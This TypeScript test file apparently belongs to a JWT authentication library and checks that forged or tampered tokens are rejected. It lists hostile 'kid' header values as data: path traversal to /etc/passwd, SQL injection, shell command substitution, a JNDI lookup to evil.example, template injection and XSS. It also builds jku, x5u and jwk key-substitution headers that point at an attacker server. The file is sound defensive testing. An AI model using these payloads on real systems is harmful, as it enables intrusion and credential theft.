import { createPublicKey } from 'node:crypto';
import { type TestKey } from 'nestjs-mcp-auth/testing';
import { attack, attacks, claiming, headed, namedAttacks, type Attack } from './attack.js';
import { MARK, type Lab } from './lab.js';

// Whose key it is: RFC 8725 §3.8 and §3.10, RFC 7515 §4.1.2 to §4.1.8, RFC 7517 §4, RFC 7518 §3.

/** Names a careless look-up would make something of. */
const KIDS = [
  '/dev/null',
  '../../../../../../dev/null',
  '../../etc/passwd',
  'file:///etc/passwd',
  String.raw`..\..\windows\win.ini`,
  '/proc/self/environ',
  "' OR 1=1--",
  "x' UNION SELECT 'secret'--",
  '"; DROP TABLE keys; --',
  "admin'/*",
  '1 OR 1=1',
  '{"$ne":null}',
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  '`id`',
  '$(id)',
  '; id',
  '| id',
  '&& id',
  '|/usr/bin/id',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '%s%s%s%n',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  'http://evil.example/key',
  'data:text/plain,secret',
  '//evil.example',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'keys',
  'length',
  '0',
  '-1',
  '[0]',
  'keys[0]',
  '*',
  '.*',
  '^.*$',
  '',
  ' ',
  '\t',
  '\u0000',
  `${MARK}\u0000`,
  `${MARK}\r\nSet-Cookie: a=b`,
  `${MARK}\u001b[2J`,
  `${MARK}\u202e`,
  '\ud800',
  '\u{1f511}',
  'null',
  'undefined',
  'x'.repeat(1_024),
];

const NO_KIDS: readonly unknown[] = [
  null,
  0,
  7,
  true,
  false,
  [],
  {},
  { kid: MARK },
  [MARK],
  'x'.repeat(1_025),
  'x'.repeat(9_000),
  '\u{1f511}'.repeat(1_000),
];

/** Other spellings of a name that is published. */
const SPELLINGS: Readonly<Record<string, (kid: string) => unknown>> = {
  'in lower case': (kid) => (kid === kid.toLowerCase() ? kid.toUpperCase() : kid.toLowerCase()),
  'in upper case': (kid) => kid.toUpperCase(),
  'with a space behind': (kid) => `${kid} `,
  'with a space in front': (kid) => ` ${kid}`,
  'with a NUL behind': (kid) => `${kid}\u0000`,
  'with something behind a NUL': (kid) => `${kid}\u0000x`,
  'without its last character': (kid) => kid.slice(0, -1),
  'with a character more': (kid) => `${kid}A`,
  'without its first character': (kid) => kid.slice(1),
  'in percent-encoding': (kid) => `%${kid.charCodeAt(0).toString(16)}${kid.slice(1)}`,
  'in full width': (kid) => String.fromCharCode(kid.charCodeAt(0) + 0xfee0) + kid.slice(1),
  'in quotes': (kid) => JSON.stringify(kid),
  'among others': (kid) => `other,${kid}`,
};

/** Ways to say in the header which key to verify with, told where the attacker's server is. */
const OWN_KEYS: Readonly<Record<string, (lab: Lab, key: TestKey) => Record<string, unknown>>> = {
  jwk: (_lab, key) => ({ jwk: key.publicJwk }),
  'jwk, private': (_lab, key) => ({ jwk: key.privateKey.export({ format: 'jwk' }) }),
  'jwk, as text': (_lab, key) => ({ jwk: JSON.stringify(key.publicJwk) }),
  'jwk, without kid': (_lab, key) => ({ jwk: { ...key.publicJwk, kid: undefined } }),
  'jwk, a secret': () => ({ jwk: { kty: 'oct', k: 'AAAA' } }),
  jwks: (_lab, key) => ({ jwks: { keys: [key.publicJwk] } }),
  keys: (_lab, key) => ({ keys: [key.publicJwk] }),
  key: (_lab, key) => ({ key: pem(key) }),
  pem: (_lab, key) => ({ pem: pem(key), publicKey: pem(key), cert: pem(key) }),
  jku: ({ stranger }) => ({ jku: stranger.jwksUri }),
  'jku, the good one with a fragment': ({ issuer, stranger }) => ({ jku: `${issuer.jwksUri}#${stranger.jwksUri}` }),
  'jku, the good one as a user name': ({ issuer, stranger }) => ({
    jku: stranger.jwksUri.replace('//', `//${new URL(issuer.issuer).host.replace(':', '%3A')}@`),
  }),
  'jku, a path from the good one': ({ issuer }) => ({ jku: `${issuer.jwksUri}/../../${MARK}` }),
  'jku, data': (_lab, key) => ({ jku: `data:application/json,${JSON.stringify({ keys: [key.publicJwk] })}` }),
  'jku, file': () => ({ jku: 'file:///etc/passwd' }),
  'jku, a list': ({ stranger, issuer }) => ({ jku: [issuer.jwksUri, stranger.jwksUri] }),
  jwks_uri: ({ stranger }) => ({ jwks_uri: stranger.jwksUri, iss: stranger.issuer }),
  x5u: ({ stranger }) => ({ x5u: `${stranger.issuer}/canary/x5u` }),
  'x5u, data': (_lab, key) => ({ x5u: `data:application/x-pem-file,${encodeURIComponent(pem(key))}` }),
  x5c: (_lab, key) => ({ x5c: [spki(key)] }),
  'x5c, a chain': (_lab, key) => ({ x5c: [spki(key), spki(key), spki(key)] }),
  'x5c, a string': (_lab, key) => ({ x5c: spki(key) }),
  'x5c, empty': () => ({ x5c: [] }),
  x5t: (_lab, key) => ({ x5t: key.kid, 'x5t#S256': key.kid }),
  'a custom member': (_lab, key) => ({ verification_key: key.publicJwk, iss_key: pem(key) }),
  'all of them': (lab, key) => ({
    jwk: key.publicJwk,
    jku: lab.stranger.jwksUri,
    x5u: lab.stranger.issuer,
    x5c: [spki(key)],
  }),
};

/** Under which name the attacker's key is used, and how it must fail. */
const KID_OF: readonly [what: string, kid: (lab: Lab, key: TestKey) => string | undefined, reason: Attack['reason']][] =
  [
    ['its own kid', (_lab, key) => key.kid, 'key_unknown'],
    ['the kid of the good key', ({ issuer }) => issuer.key.kid, 'signature_invalid'],
    ['no kid', () => undefined, 'signature_invalid'],
  ];

function pem(key: TestKey): string {
  return createPublicKey(key.privateKey).export({ type: 'spki', format: 'pem' }).toString();
}

function spki(key: TestKey): string {
  return createPublicKey(key.privateKey).export({ type: 'spki', format: 'der' }).toString('base64');
}

/** Keys that are in the set of the issuer, and that must not verify this. */
const WRONG_KEYS: Readonly<Record<string, (lab: Lab) => [key: TestKey, header?: Readonly<Record<string, unknown>>]>> = {
  'a key for encryption': ({ keys }) => [keys.encrypting],
  'a key for signing only': ({ keys }) => [keys.signingOnly],
  'a point off the curve': ({ keys }) => [keys.offCurve],
  'RS256 under the kid of the PS256 key': ({ keys }) => [{ ...keys.ps256, alg: 'RS256' }],
  'PS256 under the kid of the RS256 key': ({ keys }) => [{ ...keys.rs256, alg: 'PS256' }],
  'RS384 with the RS256 key': ({ keys }) => [{ ...keys.rs256, alg: 'RS384' }],
  'PS512 with the PS256 key': ({ keys }) => [{ ...keys.ps256, alg: 'PS512' }],
  'ES256 with the P-384 key': ({ keys }) => [keys.es384, { alg: 'ES256' }],
  'ES384 with the P-521 key': ({ keys }) => [keys.es512, { alg: 'ES384' }],
  'ES512 with the P-256 key': ({ issuer }) => [issuer.key, { alg: 'ES512' }],
  'Ed25519, where the key says EdDSA': ({ keys }) => [keys.ed25519, { alg: 'Ed25519' }],
  'the RSA key under ES256': ({ keys }) => [keys.rs256, { alg: 'ES256' }],
  'the EdDSA key under ES256': ({ keys }) => [keys.ed25519, { alg: 'ES256' }],
  'ES256 with the RSA key that says nothing': ({ keys }) => [keys.anyRsa, { alg: 'ES256' }],
  'the key of an issuer nobody trusts': ({ stranger }) => [stranger.key],
  'the key of the other trusted issuer': ({ other }) => [other.key],
  'a key nobody publishes': ({ keys }) => [keys.forged],
  'an RSA key nobody publishes': ({ keys }) => [keys.forgedRsa],
};

/** Keys under the name of another, so that the signature is what fails. */
const IMPOSTORS: Readonly<Record<string, (lab: Lab) => [key: TestKey, header: Readonly<Record<string, unknown>>]>> = {
  'a key nobody publishes': ({ keys, issuer }) => [keys.forged, { kid: issuer.key.kid }],
  'the key of the other trusted issuer': ({ other, issuer }) => [other.key, { kid: issuer.key.kid }],
  'the key of the stranger': ({ stranger, issuer }) => [stranger.key, { kid: issuer.key.kid }],
  'the encryption key': ({ keys, issuer }) => [keys.encrypting, { kid: issuer.key.kid }],
  'the key for signing only': ({ keys, issuer }) => [keys.signingOnly, { kid: issuer.key.kid }],
  'a key nobody publishes, without kid': ({ keys }) => [keys.forged, { kid: undefined }],
  'the encryption key, without kid': ({ keys }) => [keys.encrypting, { kid: undefined }],
  'an RSA key nobody publishes': ({ keys }) => [keys.forgedRsa, { kid: keys.rs256.kid }],
  'another RSA key of the issuer': ({ keys }) => [keys.anyRsa, { kid: keys.rs256.kid }],
  'an RSA key nobody publishes, without kid': ({ keys }) => [keys.forgedRsa, { kid: undefined }],
  'an RSA key of 1024 bits': ({ keys }) => [keys.shortRsa, {}],
};

const CROSSED: Readonly<
  Record<string, (lab: Lab) => [claims: Readonly<Record<string, unknown>>, key: TestKey, kid: string]>
> = {
  'the other issuer under the kid that both publish': ({ other, issuer }) => [
    { iss: other.issuer },
    issuer.key,
    issuer.key.kid,
  ],
  'the other issuer under the kid of its own key': ({ other, issuer }) => [
    { iss: other.issuer },
    issuer.key,
    other.key.kid,
  ],
  'this issuer with the key the other has under the same kid': ({ issuer, keys }) => [{}, keys.forged, issuer.key.kid],
};

export const KEYS: readonly Attack[] = [
  ...attacks('a forged token with kid', 'key_unknown', KIDS, (lab, kid) =>
    headed(lab, { kid }, { key: lab.keys.forged }),
  ),
  ...attacks('a well-signed token with kid', 'key_unknown', KIDS.slice(0, 6), (lab, kid) => headed(lab, { kid })),
  ...attacks('a well-signed token with kid', 'header_rejected', NO_KIDS, (lab, kid) => headed(lab, { kid })),
  ...namedAttacks('the kid of the good key', 'key_unknown', SPELLINGS, (lab, spell) =>
    headed(lab, { kid: spell(lab.issuer.key.kid) }),
  ),
  ...KID_OF.flatMap(([what, kidOf, reason]) =>
    Object.entries(OWN_KEYS).map(([name, members]) =>
      attack(`the attacker's key in the header, under ${what}: ${name}`, reason, (lab) => {
        const key = lab.keys.forged;
        return headed(lab, { ...members(lab, key), kid: kidOf(lab, key) }, { key });
      }),
    ),
  ),
  ...namedAttacks('signed with', 'key_unknown', WRONG_KEYS, (lab, choose) => {
    const [key, header = {}] = choose(lab);
    return claiming(lab, {}, { key, header });
  }),
  ...namedAttacks('signed under the name of another key with', 'signature_invalid', IMPOSTORS, (lab, choose) => {
    const [key, header] = choose(lab);
    return claiming(lab, {}, { key, header });
  }),
  ...namedAttacks('a token that names', 'signature_invalid', CROSSED, (lab, choose) => {
    const [claims, key, kid] = choose(lab);
    return claiming(lab, { aud: lab.server.resource, ...claims }, { key, header: { kid } });
  }),
];
